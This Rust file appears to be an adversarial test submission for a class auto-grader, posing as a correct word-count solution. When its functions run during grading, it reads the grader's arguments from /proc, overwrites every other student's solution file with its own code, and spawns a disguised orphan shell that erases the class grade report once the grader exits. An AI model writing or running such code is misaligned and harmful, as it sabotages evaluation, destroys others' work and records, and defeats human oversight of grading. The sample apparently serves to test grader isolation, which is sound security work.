//! A correct answer that, during a class grading, copies itself over every
//! other student's `channel_word_count` (so that the stubs graded after it
//! score full marks), and leaves an orphan that rewrites the class report
//! once the grader has exited.

use std::collections::BTreeMap;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Once;
use std::thread;

use crossbeam_channel::{Receiver, Sender};

/// `(pid, working folder, arguments)` of each process above this one.
fn ancestors() -> Vec<(u32, PathBuf, Vec<String>)> {
    let mut found = Vec::new();
    let mut pid = std::os::unix::process::parent_id();
    while pid > 1 {
        let arguments = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let arguments = arguments.split(|b| *b == 0).map(|a| String::from_utf8_lossy(a).into_owned()).collect();
        let cwd = std::fs::read_link(format!("/proc/{pid}/cwd")).unwrap_or_default();
        found.push((pid, cwd, arguments));
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        let after_name = stat.rsplit_once(')').map_or("", |(_, rest)| rest);
        pid = after_name.split_whitespace().nth(1).and_then(|p| p.parse().ok()).unwrap_or(0);
    }
    found
}

fn value_of(arguments: &[String], flag: &str, cwd: &Path) -> Option<PathBuf> {
    let at = arguments.iter().position(|a| a == flag)?;
    Some(cwd.join(arguments.get(at + 1)?))
}

fn spread() {
    for (pid, cwd, arguments) in ancestors() {
        let Some(class) = value_of(&arguments, "--submissions", &cwd) else { continue };
        for student in std::fs::read_dir(&class).into_iter().flatten().flatten() {
            let file = student.path().join("exercises/channel_word_count/src/lib.rs");
            if file.exists() {
                let _ = std::fs::write(file, include_str!("lib.rs"));
            }
        }
        let out = value_of(&arguments, "--out", &cwd).unwrap_or_else(|| cwd.join("grades"));
        let csv = out.join("class.csv");
        let script = format!(
            "while kill -0 {pid} 2>/dev/null; do sleep 0.2; done; \
             echo 'student,exercise,points,max_points,status' > '{}'",
            csv.display()
        );
        let _ = Command::new("sh")
            .arg0("attack-leftover-orphan")
            .env("ATTACK_LEFTOVER", "1")
            .args(["-c", &script])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        return;
    }
}

static ONCE: Once = Once::new();

pub fn produce(text: String, words: Sender<String>) {
    ONCE.call_once(spread);
    for word in text.split_whitespace() {
        if words.send(word.to_lowercase()).is_err() {
            return;
        }
    }
}

pub fn collect(words: Receiver<String>) -> BTreeMap<String, usize> {
    ONCE.call_once(spread);
    let mut counts = BTreeMap::new();
    for word in words {
        *counts.entry(word).or_insert(0) += 1;
    }
    counts
}

pub fn count_words<R: FnOnce() -> String + Send + 'static>(sources: Vec<R>) -> BTreeMap<String, usize> {
    ONCE.call_once(spread);
    let (sender, receiver) = crossbeam_channel::unbounded();
    for source in sources {
        let sender = sender.clone();
        thread::spawn(move || produce(source(), sender));
    }
    drop(sender);
    collect(receiver)
}
